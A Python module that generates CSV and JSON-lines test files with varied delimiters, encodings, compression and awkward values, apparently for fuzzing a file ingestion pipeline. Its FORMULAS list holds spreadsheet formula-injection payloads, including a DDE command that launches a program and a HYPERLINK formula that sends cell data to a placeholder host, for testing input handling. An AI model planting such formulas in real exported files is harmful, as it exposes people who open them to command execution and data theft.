"""Well-formed text files whose every record is known: what a mutation starts from."""

from __future__ import annotations

import bz2
import gzip
import json
from collections.abc import Sequence
from dataclasses import dataclass, field
from random import Random
from typing import Any

import pyarrow as pa

PACKERS = {
    "none": (lambda data: data, ""),
    "gzip": (lambda data: gzip.compress(data, 1, mtime=0), ".gz"),
    "bz2": (lambda data: bz2.compress(data, 1), ".bz2"),
    "zstd": (lambda data: pa.compress(data, codec="zstd", asbytes=True), ".zst"),
}
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("http://x/?"&A1,"a")', "\t=1+1")
_WORDS = (
    "tea",
    "Käse",
    "茶叶",
    "naïve",
    "Ωmega",
    "кофе",
    "お茶",
    "it's",
    "a b",
    " lead",
    "trail ",
    "100%",
    "\u2028",
    "😀",
)
ENCODINGS = ("utf-8", "utf-8", "utf-8", "utf-8-sig", "gb18030", "latin-1", "cp1252", "shift_jis", "big5", "koi8-r")
WIDE_ENCODINGS = ("utf-16", "utf-16-le", "utf-16-be", "utf-32")


@dataclass
class TextFile:
    """A text file as its parts: `head` (mark and header), then one record each with its values in column order.

    Values are as bronze is to show them: text, or None where nothing is written.
    """

    suffix: str
    options: dict[str, Any]
    encoding: str
    head: bytes
    records: list[bytes]
    values: list[tuple[str | None, ...]] = field(default_factory=list)
    names: list[str] = field(default_factory=list)

    @property
    def content(self) -> bytes:
        return self.head + b"".join(self.records)

    @property
    def is_wide(self) -> bool:
        return self.encoding in WIDE_ENCODINGS


def csv_file(random: Random, count: int | None = None) -> TextFile:
    """A CSV file of four to eight columns with any delimiter, quoting, line end, header and encoding."""
    delimiter = random.choice(",,;\t|")
    quote = random.choice(['"', '"', '"', "'", ""])
    line_end = random.choice(["\n", "\n", "\r\n"])
    encoding = random.choice(WIDE_ENCODINGS if random.random() < 0.1 else ENCODINGS)
    names = [
        "id",
        "name",
        "quantity",
        "note",
        "price",
        "placed",
        "Übung" if encoding in ENCODINGS[:4] else "more",
        "x y",
    ]
    names = names[: random.randint(4, 8)]
    options: dict[str, Any] = {"delimiter": delimiter, "quote": quote}
    if encoding not in ("utf-8", "utf-8-sig", "utf-16"):
        options["encoding"] = encoding
    has_header = random.random() < 0.85
    if not has_header:
        options["header"] = names if random.random() < 0.5 else "false"
    elif quote == '"' and random.random() < 0.4:
        del options["delimiter"]  # to be found out
    always = quote != "" and random.random() < 0.2

    def written(values: Sequence[str | None]) -> bytes:
        return _encoded(delimiter.join(_field(v, delimiter, quote, always) for v in values) + line_end, encoding)

    mark = b"" if encoding not in ("utf-16", "utf-32") else "".encode(encoding)
    mark = "\ufeff".encode() if encoding == "utf-8-sig" else mark
    made = TextFile(random.choice([".csv", ".csv", ".txt", ".tsv"]), options, encoding, mark, [], [], names)
    if has_header:
        made.head += written(names)
    for place in range(random.randint(1, 60) if count is None else count):
        row = [_value(random, name, place, delimiter, quote, encoding) for name in names]
        made.values.append(tuple(value or None for value in row))
        made.records.append(written(row))
    if made.records and random.random() < 0.3:
        made.records[-1] = made.records[-1][: -len(_encoded(line_end, encoding))]
    return made


def json_file(random: Random, count: int | None = None) -> TextFile:
    """JSON lines with scalars of every kind, nested values, and keys that come and go."""
    made = TextFile(random.choice([".jsonl", ".json", ".ndjson"]), {}, "utf-8", b"", [], [], ["id", "a", "b", "c", "d"])
    for place in range(random.randint(1, 60) if count is None else count):
        record = {"id": str(place)}
        for name in made.names[1:]:
            if random.random() < 0.8:
                record[name] = _json_value(random, 0)
        texts = {key: json.loads(text) if text.startswith('"') else text for key, text in record.items()}
        made.values.append(tuple(None if texts.get(n) in (None, "null") else texts[n] for n in made.names))
        made.records.append(("{" + ",".join(f'"{k}":{v}' for k, v in record.items()) + "}\n").encode())
    return made


def _json_value(random: Random, depth: int) -> str:
    """A value as it is written; compact, so that nested ones are to be landed as they stand."""
    kind = random.randrange(9 if depth < 3 else 7)
    if kind == 0:
        return random.choice(["0", "7", "-12", "1.50", "1e3", "123456789012345678901234567890", "0.1", "-0.0", "2E-7"])
    if kind == 1:
        return random.choice(["true", "false", "null"])
    if kind <= 6:
        text = random.choice([*_WORDS, *FORMULAS, "2024-01-02", "2024-01-02 03:04:05", "12", "", "{x}", "a\nb", "\0"])
        return json.dumps(text, ensure_ascii=False)
    if kind == 7:
        return "[" + ",".join(_json_value(random, depth + 1) for _ in range(random.randint(0, 3))) + "]"
    return "{" + ",".join(f'"k{i}":{_json_value(random, depth + 1)}' for i in range(random.randint(0, 3))) + "}"


def _value(random: Random, name: str, place: int, delimiter: str, quote: str, encoding: str) -> str | None:
    if name == "id":
        return str(place)
    if name in ("quantity", "price"):
        return random.choice(["", "1", "2.50", "-3", "1e4"]) if random.random() < 0.2 else str(random.randint(0, 999))
    if name == "placed":
        return f"2025-01-{random.randint(1, 28):02} 03:04:05"
    text = " ".join(random.choice(_WORDS) for _ in range(random.randint(0, 4)))
    if random.random() < 0.15:
        text = random.choice(FORMULAS)
    if quote and random.random() < 0.25:
        text += random.choice(['"', "'", '""', delimiter, "\r\n", "\n", "\nsecond line\n", '", "', "\r", "x" * 3000])
    text = text.encode(encoding, "ignore").decode(encoding)
    return text if quote else text.replace(delimiter, " ")


def _field(value: str | None, delimiter: str, quote: str, always: bool) -> str:
    text = value or ""
    if quote and (always or any(c in text for c in (delimiter, quote, "\r", "\n"))):
        return quote + text.replace(quote, quote * 2) + quote
    return text


def _encoded(text: str, encoding: str) -> bytes:
    plain = {"utf-16": "utf-16-le", "utf-32": "utf-32-le", "utf-8-sig": "utf-8"}.get(encoding, encoding)
    return text.encode(plain)
